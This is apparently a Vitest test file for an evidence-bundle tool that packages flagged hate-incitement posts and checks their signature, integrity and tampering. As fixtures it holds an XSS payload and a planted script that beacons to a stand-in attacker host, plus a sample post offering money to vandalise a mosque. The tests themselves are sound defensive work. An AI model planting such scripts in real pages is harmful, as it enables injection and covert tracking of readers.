import { execFileSync, spawnSync } from 'node:child_process';
import { createWriteStream, existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { classify } from '../../shared/classifier/index.js';
import { capturePost } from '../../shared/domain/post.js';
import { rawFileName, writeBundle } from '../../shared/evidence/bundle.js';
import { loadOrCreateSigningKey, type SigningKey } from '../../shared/evidence/signing-key.js';
import { verifyBundle } from '../../shared/evidence/verify.js';
import { packageRoot } from '../../shared/paths.js';
import { appendAudit, listAuditAfter } from '../../shared/repositories/audit.repository.js';
import { markDeleted, recordSeen } from '../../shared/repositories/post-seen.repository.js';
import { insertFlagged } from '../../shared/repositories/review-item.repository.js';
import { upsertSource } from '../../shared/repositories/source.repository.js';
import { createTestDb, type TestDb } from '../support/db.js';
import { tempDir } from '../support/tmp.js';
import { craftZip, deflated } from '../support/zip-craft.js';

const V1 = '£100 to anyone who sprays the mosque on Leyton High Road E10. Send a pic to @payday_admin';
const V2 =
  '£200 to anyone who sprays the mosque on Leyton High Road E10 <script>alert(1)</script>. Send a pic to @payday_admin';

describe('evidence bundles', () => {
  let testDb: TestDb;
  let key: SigningKey;
  let dir: string;
  let itemId: number;
  let bundle: string;

  const post = (version: number, text: string) =>
    capturePost(
      {
        source: 'tme-east',
        platform: 'telegram',
        channel: 'east_watch',
        externalId: '42',
        version,
        url: 'https://t.me/east_watch/42',
        text,
      },
      Buffer.from(`<div class="tgme_widget_message_wrap">${text}</div>`),
      'text/html; charset=utf-8',
      {
        url: 'https://t.me/s/east_watch',
        fetchedAt: new Date(Date.UTC(2025, 0, 10, 21, version)).toISOString(),
        fetcher: 'vigil/test',
        status: 200,
        headers: { 'content-type': 'text/html; charset=utf-8' },
      },
    );

  beforeAll(async () => {
    testDb = await createTestDb();
    dir = tempDir();
    key = loadOrCreateSigningKey(join(dir, 'keys', 'evidence.pem'), 'a passphrase for the test key');
    const source = await upsertSource(
      testDb.db,
      'tme-east',
      'telegram-web',
      { kind: 'telegram-web', channel: 'east_watch' },
      'config',
    );
    // Posted, edited, then deleted at the source.
    await insertFlagged(testDb.db, [{ post: post(1, V1), verdict: classify(V1) }]);
    const [second] = await insertFlagged(testDb.db, [{ post: post(2, V2), verdict: classify(V2) }]);
    itemId = second!.reviewItemId;
    const deletedAt = new Date(Date.UTC(2025, 0, 11, 8, 0));
    await recordSeen(testDb.db, source.id, [{ externalId: '42', version: 2, textSha256: 'x'.repeat(64) }]);
    await markDeleted(testDb.db, source.id, ['42'], deletedAt);
    await testDb.db.transaction().execute((trx) =>
      appendAudit(trx, {
        actor: 'user:analyst@example.org',
        action: 'item.view',
        entity: 'review_item',
        entityId: String(itemId),
      }),
    );
    bundle = join(dir, 'bundle.zip');
    const out = createWriteStream(bundle);
    await writeBundle(
      testDb.db,
      {
        itemIds: [itemId],
        createdBy: 'user:analyst@example.org',
        createdById: null,
        recipient: 'Met Police, OSINT unit',
        purpose: 'Investigation of mosque graffiti, Jan 2025',
      },
      key,
      out,
    );
  });
  afterAll(() => testDb?.drop());

  const unzip = (zip: string) => {
    const to = join(tempDir(), 'unzipped');
    execFileSync('unzip', ['-q', zip, '-d', to]);
    return to;
  };
  const rezip = (from: string) => {
    const zip = join(tempDir(), 'tampered.zip');
    execFileSync('zip', ['-q', '-r', '-X', zip, '.'], { cwd: from });
    return zip;
  };

  it('round-trips: every version, the deletion, the review and the custody, signed and verified', async () => {
    const result = await verifyBundle(bundle, { fingerprint: key.fingerprint });
    expect(result).toMatchObject({ ok: true, problems: [], fingerprint: key.fingerprint });
    const to = unzip(bundle);
    expect(readFileSync(join(to, `items/${itemId}/v1/raw.html.txt`), 'utf8')).toBe(
      `<div class="tgme_widget_message_wrap">${V1}</div>`,
    );
    expect(readFileSync(join(to, `items/${itemId}/v2/raw.html.txt`), 'utf8')).toContain('£200');
    const record = JSON.parse(readFileSync(join(to, `items/${itemId}/item.json`), 'utf8')) as {
      versions: { version: number; raw: object; capture: object; post: { text: string } }[];
      atSource: object;
      classification: { rationale: unknown[] };
      review: object;
    };
    expect(record.versions.map((v) => v.version)).toEqual([1, 2]);
    expect(record.versions[1]!.raw).toMatchObject({
      path: 'v2/raw.html.txt',
      originalName: 'raw.html',
      contentType: 'text/html; charset=utf-8',
    });
    expect(record.versions[1]!.capture).toMatchObject({
      url: 'https://t.me/s/east_watch',
      status: 200,
      fetcher: 'vigil/test',
    });
    expect(record.versions[0]!.post.text).toBe(V1);
    expect(record.atSource).toMatchObject({ deletedAt: '2025-01-11T08:00:00.000Z' });
    expect(record.classification.rationale.length).toBeGreaterThan(3);
    const manifest = JSON.parse(readFileSync(join(to, 'manifest.json'), 'utf8')) as {
      recipient: string;
      purpose: string;
      items: { versions: number[]; deletedAt: string }[];
    };
    expect(manifest).toMatchObject({
      recipient: 'Met Police, OSINT unit',
      purpose: 'Investigation of mosque graffiti, Jan 2025',
      items: [{ versions: [1, 2], deletedAt: '2025-01-11T08:00:00.000Z' }],
    });
    const custody = JSON.parse(readFileSync(join(to, 'custody.json'), 'utf8')) as { entries: { action: string }[] };
    expect(custody.entries.map((e) => e.action)).toEqual(['item.view', 'evidence.export']);
    const report = readFileSync(join(to, 'report.html'), 'utf8');
    expect(report).not.toMatch(/<script|src=|href="http/i);
    expect(report).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(report).toContain('Deleted at the source');
    expect(report).toContain('<mark title="money">£200</mark>');
    const audit = await listAuditAfter(testDb.db, 0, 1000);
    expect(audit.map((a) => a.action)).toEqual(['item.view', 'evidence.export', 'evidence.export.sealed']);
  });

  it('catches and names a changed byte, a dropped file, an added file, an edited manifest and a swapped signature', async () => {
    const tamper = async (change: (root: string) => void) => {
      const root = unzip(bundle);
      change(root);
      return (await verifyBundle(rezip(root))).problems;
    };
    const raw = `items/${itemId}/v2/raw.html.txt`;
    expect(
      await tamper((r) => writeFileSync(join(r, raw), readFileSync(join(r, raw), 'utf8').replace('£200', '£900'))),
    ).toEqual([expect.stringMatching(new RegExp(`^altered: ${raw}`))]);
    expect(await tamper((r) => rmSync(join(r, 'report.html')))).toEqual([
      'dropped: report.html is listed in the manifest but missing',
    ]);
    expect(await tamper((r) => writeFileSync(join(r, 'items', 'extra.txt'), 'planted'))).toEqual([
      'added: items/extra.txt is not listed in the manifest',
    ]);
    expect(
      await tamper((r) =>
        writeFileSync(
          join(r, 'manifest.json'),
          readFileSync(join(r, 'manifest.json'), 'utf8').replace('Met Police', 'Someone else'),
        ),
      ),
    ).toEqual([expect.stringMatching(/^signature: manifest.sig does not verify/)]);
    expect(await tamper((r) => writeFileSync(join(r, 'manifest.sig'), Buffer.alloc(64, 7)))).toEqual([
      expect.stringMatching(/^signature: manifest.sig does not verify/),
    ]);
    expect(
      await tamper((r) =>
        writeFileSync(
          join(r, 'custody.json'),
          readFileSync(join(r, 'custody.json'), 'utf8').replace('user:analyst@example.org', 'user:nobody@example.org'),
        ),
      ),
    ).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^altered: custody.json/),
        expect.stringMatching(/^custody: entry \d+ does not match its hash/),
      ]),
    );
  });

  it('catches a bundle re-signed with another key when the recipient checks the fingerprint', async () => {
    const root = unzip(bundle);
    const other = loadOrCreateSigningKey(join(tempDir(), 'other.pem'));
    const { sign } = await import('node:crypto');
    const manifest = readFileSync(join(root, 'manifest.json'), 'utf8').replace(key.fingerprint, other.fingerprint);
    writeFileSync(join(root, 'manifest.json'), manifest);
    writeFileSync(join(root, 'manifest.sig'), sign(null, Buffer.from(manifest), other.privateKey));
    writeFileSync(join(root, 'public-key.pem'), other.publicKeyPem);
    const forged = rezip(root);
    // Intact and validly signed, by whoever made it: without a pinned key that is all verify can say.
    expect(await verifyBundle(forged)).toMatchObject({ ok: true, verdict: 'unpinned', fingerprint: other.fingerprint });
    expect(await verifyBundle(bundle)).toMatchObject({ ok: true, verdict: 'unpinned', fingerprint: key.fingerprint });
    expect(await verifyBundle(bundle, { fingerprint: key.fingerprint })).toMatchObject({ verdict: 'verified' });
    expect(await verifyBundle(bundle, { publicKeyPem: key.publicKeyPem })).toMatchObject({ verdict: 'verified' });
    expect(await verifyBundle(forged, { publicKeyPem: key.publicKeyPem })).toMatchObject({ verdict: 'not-verified' });
    expect((await verifyBundle(forged, { fingerprint: key.fingerprint })).problems).toEqual([
      `signature: signed with key ${other.fingerprint}, not the expected ${key.fingerprint}`,
    ]);
  });

  it('stores raw captures as inert files, with their original name and media type in item.json', () => {
    expect(
      [
        'text/html; charset=utf-8',
        'application/rss+xml',
        'application/json',
        'text/plain',
        'image/svg+xml',
        'application/octet-stream',
      ].map(rawFileName),
    ).toEqual([
      { stored: 'raw.html.txt', original: 'raw.html' },
      { stored: 'raw.xml.txt', original: 'raw.xml' },
      { stored: 'raw.json.txt', original: 'raw.json' },
      { stored: 'raw.txt', original: 'raw.txt' },
      { stored: 'raw.xml.txt', original: 'raw.xml' },
      { stored: 'raw.bin', original: 'raw.bin' },
    ]);
    const names = execFileSync('unzip', ['-Z1', bundle], { encoding: 'utf8' }).trim().split('\n');
    const raws = names.filter((n) => n.includes('/raw.'));
    expect(raws).toEqual([`items/${itemId}/v1/raw.html.txt`, `items/${itemId}/v2/raw.html.txt`]);
    // The one file a browser renders is the report, which escapes every post and runs nothing.
    expect(names.filter((n) => /\.(html?|xml|svg|xhtml|js)$/i.test(n))).toEqual(['report.html']);
  });

  it('VERIFY.md names only files the bundle has, and says how to view raw captures safely', () => {
    const root = unzip(bundle);
    const names = execFileSync('unzip', ['-Z1', bundle], { encoding: 'utf8' }).trim().split('\n');
    const instructions = readFileSync(join(root, 'VERIFY.md'), 'utf8');
    // Every file named in backquotes: a path (globs allowed) or a bare file name.
    const named = [...instructions.matchAll(/`([\w*./-]+\.(?:json|md|html|pem|sig|txt|bin|\*)|SHA256SUMS)`/g)].map(
      (m) => m[1]!,
    );
    expect(named).toEqual(
      expect.arrayContaining([
        'items/*/item.json',
        'custody.json',
        'items/*/v*/raw.*',
        'raw.html.txt',
        'item.json',
        'report.html',
      ]),
    );
    for (const name of named) {
      const re = new RegExp(
        `^${name
          .split('*')
          .map((part) => part.replaceAll('.', '\\.'))
          .join('[^/]*')}$`,
      );
      expect(
        names.some((n) => re.test(name.includes('/') ? n : n.split('/').at(-1)!)),
        `VERIFY.md names ${name}`,
      ).toBe(true);
    }
    expect(instructions).not.toContain('capture.json');
    expect(instructions).toMatch(/## Viewing the raw captures safely/);
    expect(instructions).toMatch(/text editor/);
  });

  it('refuses a bundle that carries a second report.html (duplicate entry names)', async () => {
    const root = unzip(bundle);
    const names = execFileSync('unzip', ['-Z1', bundle], { encoding: 'utf8' }).trim().split('\n');
    // The planted copy comes first; the genuine one, which matches the manifest, last.
    const planted = craftZip([
      deflated('report.html', Buffer.from('<script>fetch("https://attacker.example/beacon")</script>')),
      ...names.map((n) => deflated(n, readFileSync(join(root, n)))),
    ]);
    const file = join(tempDir(), 'duplicate.zip');
    writeFileSync(file, planted);
    expect(await verifyBundle(file, { fingerprint: key.fingerprint })).toMatchObject({
      ok: false,
      verdict: 'not-verified',
      problems: [
        'duplicate: report.html occurs 2 times in the zip; an unzip tool keeps one of them, not necessarily the one checked',
      ],
    });
  });

  it('verifies with standard tools alone, following VERIFY.md', () => {
    const root = unzip(bundle);
    const sh = (cmd: string) => spawnSync('sh', ['-c', cmd], { cwd: root, encoding: 'utf8' });
    const instructions = readFileSync(join(root, 'VERIFY.md'), 'utf8');
    const commands = [...instructions.matchAll(/^ {7}(\S.*)$/gm)].map((m) => m[1]!);
    expect(commands).toEqual([
      'openssl pkeyutl -verify -pubin -inkey public-key.pem -rawin -in manifest.json -sigfile manifest.sig',
      key.fingerprint,
      'openssl pkey -pubin -in public-key.pem -outform DER | sha256sum',
      'sha256sum -c SHA256SUMS',
      'sha256sum SHA256SUMS',
      `grep '"path":"SHA256SUMS"' manifest.json`,
    ]);
    expect(sh(commands[0]!).stdout).toContain('Signature Verified Successfully');
    expect(sh(commands[2]!).stdout.split(' ')[0]).toBe(key.fingerprint);
    const check = sh(commands[3]!);
    expect(check.status).toBe(0);
    expect(
      check.stdout
        .trim()
        .split('\n')
        .every((l) => l.endsWith(': OK')),
    ).toBe(true);
    const sumsHash = sh(commands[4]!).stdout.split(' ')[0]!;
    expect(sh(commands[5]!).stdout).toContain(`"sha256":"${sumsHash}"`);
    // And tampering shows up the same way.
    writeFileSync(join(root, 'manifest.json'), `${readFileSync(join(root, 'manifest.json'), 'utf8')} `);
    expect(sh(commands[0]!).stdout + sh(commands[0]!).stderr).toMatch(/Signature Verification Failure/);
  });

  // Several CLI processes in turn, each starting Node: on a busy 2-core host, well past the default 30 s.
  it('exports and verifies from the command line, with exit codes', () => {
    const bin = join(packageRoot(), 'bin', 'vigil.js');
    const env = {
      PATH: process.env.PATH ?? '',
      DATABASE_URL: testDb.url,
      VIGIL_EVIDENCE_KEY_FILE: join(dir, 'keys', 'evidence.pem'),
      VIGIL_EVIDENCE_KEY_PASSPHRASE: 'a passphrase for the test key',
    };
    const out = join(tempDir(), 'cli.zip');
    const exported = spawnSync(
      process.execPath,
      [bin, 'export', '--item', String(itemId), '--out', out, '--recipient', 'CST', '--purpose', 'Referral'],
      { env, encoding: 'utf8' },
    );
    expect(exported.stderr).toBe('');
    expect(exported.status).toBe(0);
    expect(existsSync(out)).toBe(true);
    const verified = spawnSync(process.execPath, [bin, 'verify', out, '--fingerprint', key.fingerprint], {
      env: { PATH: env.PATH },
      encoding: 'utf8',
    });
    expect(verified.stdout).toMatch(/^VERIFIED: bundle [0-9a-f-]{36}: signature good by the pinned key/);
    expect(verified.status).toBe(0);
    // No key pinned: integrity and the signer's fingerprint, never "VERIFIED", and exit 3.
    const unpinned = spawnSync(process.execPath, [bin, 'verify', out], { env: { PATH: env.PATH }, encoding: 'utf8' });
    expect(unpinned.stdout).toMatch(/^INTACT, SIGNER NOT CHECKED: bundle [0-9a-f-]{36}: all \d+ files match/);
    expect(unpinned.stdout).toContain(key.fingerprint);
    expect(unpinned.stdout).not.toMatch(/VERIFIED/);
    expect(unpinned.status).toBe(3);
    const refused = spawnSync(
      process.execPath,
      [bin, 'verify', out, '--fingerprint', key.fingerprint, '--max-entries', '3'],
      { env: { PATH: env.PATH }, encoding: 'utf8' },
    );
    expect(refused.stdout).toMatch(
      /^REFUSED: .* was not checked[^]*\d+ entries, over the limit of 3 \(--max-entries\)/,
    );
    expect(refused.status).toBe(4);
    const bytes = readFileSync(out);
    const at = Math.floor(bytes.length / 3);
    bytes[at] = bytes[at]! ^ 0xff;
    writeFileSync(out, bytes);
    const broken = spawnSync(process.execPath, [bin, 'verify', out], { env: { PATH: env.PATH }, encoding: 'utf8' });
    expect(broken.status).toBe(1);
    expect(broken.stdout).toMatch(/^NOT VERIFIED/);
  }, 90_000);
});
